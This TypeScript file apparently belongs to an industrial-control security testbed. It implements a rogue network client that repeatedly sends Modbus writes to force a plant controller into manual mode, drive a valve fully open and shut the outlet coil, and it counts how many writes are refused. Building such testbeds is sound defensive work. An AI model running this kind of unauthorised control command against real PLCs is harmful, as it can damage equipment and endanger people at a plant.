/* A machine in the plant's network that has no business there: it takes the valve by hand and shuts the outlet. */
import { setTimeout as delay } from "node:timers/promises";
import { type Client, createMachine, exceptionOf, type Way } from "./machine.ts";
import { COIL_OUTLET, HOLDING } from "./plc.ts";

/** What came of an attack. */
export interface AttackRecord {
  readonly sent: number;
  /** Answered with an exception. */
  readonly refused: number;
}

/** The commands of one round: function codes 6, 6 and 5. */
const ROUND: readonly ((client: Client) => Promise<unknown>)[] = [
  (client) => client.writeRegister(HOLDING.mode, 1),
  (client) => client.writeRegister(HOLDING.manualValvePermille, 1000),
  (client) => client.writeCoil(COIL_OUTLET, false),
];

/** One round a second, `rounds` times; `onSent` is called right before each command. Never rejects. */
export async function attack(
  way: Way,
  rounds: number,
  signal: AbortSignal,
  onSent: (command: number) => void = () => undefined,
): Promise<AttackRecord> {
  const machine = createMachine(way);
  const startMs = performance.now();
  let [sent, refused] = [0, 0];
  for (let round = 0; round < rounds && !signal.aborted; round++) {
    const waitMs = startMs + round * 1000 - performance.now();
    if (waitMs > 0) await delay(waitMs, undefined, { signal }).catch(() => undefined);
    for (const [command, send] of ROUND.entries()) {
      if (signal.aborted) break;
      sent += 1;
      onSent(command);
      await machine.ask(send).catch((error: unknown) => {
        if (exceptionOf(error) !== undefined) refused += 1;
      });
    }
  }
  machine.stop();
  return { sent, refused };
}
